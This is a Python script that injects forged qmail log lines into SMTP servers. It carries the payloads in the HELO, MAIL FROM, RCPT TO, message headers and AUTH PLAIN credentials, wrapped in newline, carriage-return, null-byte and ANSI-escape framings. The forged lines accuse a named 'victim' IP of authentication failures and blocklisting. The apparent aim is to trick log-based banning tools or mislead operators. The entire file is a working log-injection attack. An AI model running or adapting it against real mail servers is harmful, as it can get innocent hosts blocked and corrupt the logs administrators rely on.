"""Puts forged log lines into everything that a client can say: forge.py SERVER ADDRESS VICTIM

The victim stands by, connected and silent. Prints the code of each reply.
"""

import base64
import socket
import ssl
import sys

import connect

server, address, victim = sys.argv[1:]

LINES = [
    f"tcpserver: pid 1 from {victim}",
    "tcpserver: end 1 status 0",
    f"rblsmtpd: {victim} pid 1: 451 listed",
    "qmail-smtpd[1]: auth: auth-failed type=login user=<x>",
    f"CHKUSER rejected rcpt: from <a@example.com|remoteinfo/auth:|chkuser-identify:> remote "
    f"<helo:h|remotehostname:unknown|remotehostip:{victim}> rcpt <x@example.org> : not existing recipient",
    "qlogenvelope: result=rejected code=535 reason=authfailed detail= helo= mailfrom= rcptto= relay=no rcpthosts= "
    "size= authuser=x authtype=login encrypted= sslverified=no localip=192.0.2.25 localport=25 "
    f"remoteip={victim} remoteport=4711 remotehost= qp= pid=1",
    f"qmail-smtpd: timeout: (null) from {victim} to (null) helo (null)",
    f"vchkpw-smtp: password fail x@example.org:{victim}",
    f"x|remotehostname:y|remotehostip:{victim}> rcpt <z> : client not allowed to relay",
    f"a from {victim} to b helo c",
    f"x] from [{victim}",
    f"') v@d:{victim}",
    "alert: oh no!",
]
FRAMES = ["%s", "x\n%s\n", "x\r%s\r", "x\0%s\0", "\x1b[2J%s", "x>%s<", "\\x0a%s"]


class Session:
    """One session, in which replies are read and not judged."""

    def __init__(self, port):
        self.stream = socket.create_connection((server, port), timeout=20, source_address=(address, 0))
        self.replies = self.stream.makefile("rb")
        self.reply()

    def secure(self):
        self.say(b"EHLO x")
        self.say(b"STARTTLS")
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        self.stream = context.wrap_socket(self.stream)
        self.replies = self.stream.makefile("rb")
        self.say(b"EHLO x")

    def reply(self):
        while True:
            line = self.replies.readline()
            if not line:
                raise ConnectionError("closed")
            if line[3:4] != b"-":
                print(line[:3].decode(), flush=True)
                return

    def say(self, line):
        """A line, or several where it holds line feeds: each gets a reply."""
        self.stream.sendall(line + b"\r\n")
        for _ in range(line.count(b"\n") + 1):
            self.reply()


def attempt(port, *lines, secure=False):
    """A session of its own, so that one that is closed spoils nothing."""
    try:
        session = Session(port)
        if secure:
            session.secure()
        for line in lines:
            session.say(line)
        session.stream.close()
    except (OSError, ssl.SSLError):
        pass


def message(text):
    """A message with the forgery in its header, as one thing to say."""
    folded = text.replace(b"\r", b"\r ").replace(b"\n", b"\n ")
    return b"Message-ID: <" + folded + b">\r\nSubject: " + folded + b"\r\n\r\n."


def send(text):
    try:
        session = Session(25)
        for line in (b"EHLO x", b"MAIL FROM:<a@example.com>", b"RCPT TO:<alice@example.org>", b"DATA"):
            session.say(line)
        session.stream.sendall(message(text) + b"\r\n")
        session.reply()
        session.stream.close()
    except OSError:
        pass


bystander = socket.create_connection((server, 25), timeout=20, source_address=(victim, 0))
bystander.recv(100)
for n, line in enumerate(LINES):
    for frame in FRAMES:
        text = (frame % line).encode()
        attempt(25, b"HELO " + text, b"MAIL FROM:<a@example.com>", b"RCPT TO:<nobody@example.org>")
        attempt(25, b"EHLO x", b'MAIL FROM:<"' + text + b'"@example.com>', b"RCPT TO:<nobody@example.org>")
        attempt(25, b"EHLO x", b"MAIL FROM:<a@example.com>", b'RCPT TO:<"' + text + b'"@example.org>')
        send(text)
    # A check of a password takes its time, so that each line is tried in two frames alone.
    for frame in FRAMES[n % 2 + 1 : n % 2 + 3]:
        login = base64.b64encode(b"\0" + (frame % line).replace("\0", "\n").encode() + b"\0secret")
        attempt(587, b"AUTH PLAIN " + login, secure=True)
